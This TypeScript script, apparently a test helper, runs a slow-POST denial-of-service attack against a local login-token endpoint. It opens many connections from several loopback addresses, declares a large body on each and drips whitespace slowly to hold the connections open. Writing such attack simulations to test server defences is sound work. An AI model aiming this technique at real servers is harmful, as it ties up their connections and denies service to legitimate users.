import { connect, type Socket } from 'node:net';

const ADDRESSES = ['127.0.0.11', '127.0.0.12', '127.0.0.13'];
const STATED_BYTES = 65_000;
const FIRST_BYTES = 11_400;
const PIECE_BYTES = 2_000;
const HEAD =
  `POST /auth/v1/token?grant_type=password HTTP/1.1\r\nHost: x\r\n` +
  `Content-Type: application/json\r\nContent-Length: ${STATED_BYTES}\r\n\r\n`;

// In a process of its own: the time to open so many connections is the attacker's and no visitor's.
const [port = 0, connections = 0] = process.argv.slice(2).map(Number);
for (let index = 0; index < connections; index++) openLine(index);

function openLine(index: number): Socket {
  const localAddress = ADDRESSES[index % ADDRESSES.length] ?? '127.0.0.11';
  const line = connect({ port, host: '127.0.0.1', localAddress });
  line.on('error', () => {}).resume();
  line.write(HEAD + ' '.repeat(FIRST_BYTES));
  const pieces = setInterval(() => line.write(' '.repeat(PIECE_BYTES)), 4_000);
  line.once('close', () => clearInterval(pieces));
  return line;
}
